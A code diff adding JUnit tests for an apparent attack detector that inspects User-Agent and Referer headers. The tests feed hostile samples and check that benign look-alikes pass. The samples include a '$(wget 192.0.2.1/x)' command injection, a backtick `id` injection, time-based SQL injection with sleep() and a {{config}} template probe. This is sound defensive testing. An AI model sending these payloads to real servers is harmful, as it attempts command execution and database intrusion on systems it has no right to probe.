@@ -121,6 +121,47 @@ class RequestAnalysisTest {
   }
 
   @ParameterizedTest
+  @CsvSource(
+      delimiter = '>',
+      quoteCharacter = '~',
+      textBlock =
+          """
+          Mozilla/5.0 $(wget 192.0.2.1/x)                   > command-injection
+          `id`                                              > command-injection
+          if(now()=sysdate(),sleep(15),0)                   > sql-injection
+          (select(0)from(select(sleep(15)))v)               > sql-injection
+          https://www.example.com/?q=7)%20and%20sleep(5)    > sql-injection
+          {{config}}                                        > expression-injection
+          """)
+  void commandsQueriesAndExpressionsInHeadersAreFound(String header, String family) {
+    byte[] bytes = Requests.bytes(header);
+    analysis.begin();
+    analysis.agent(bytes, 0, bytes.length);
+    analysis.referrer(bytes, 0, bytes.length);
+    assertThat(Requests.read(analysis))
+        .hasSize(2)
+        .allSatisfy(finding -> assertThat(finding).startsWith(family + " "));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
+        "Mozilla/5.0 (compatible; Example/2.0(beta); +https://www.example.com/bot)",
+        "Example/1.0 (select edition; update 3) core(7)",
+        "https://www.example.com/search?q=union%20select&price=$5",
+        "https://www.example.com/f(x)?a=b;c=d&e=`x`",
+        "https://www.example.com/tiles/{z}/{x}?t=${name}"
+      })
+  void headersOfEveryDayAreLeftAlone(String header) {
+    byte[] bytes = Requests.bytes(header);
+    analysis.begin();
+    analysis.agent(bytes, 0, bytes.length);
+    analysis.referrer(bytes, 0, bytes.length);
+    assertThat(Requests.read(analysis)).isEmpty();
+  }
+
+  @ParameterizedTest
   @CsvSource({
     "sqlmap/1.8#stable (https://example.com),sqlmap",
     "Mozilla/5.00 (Nikto/2.1.5),Nikto",
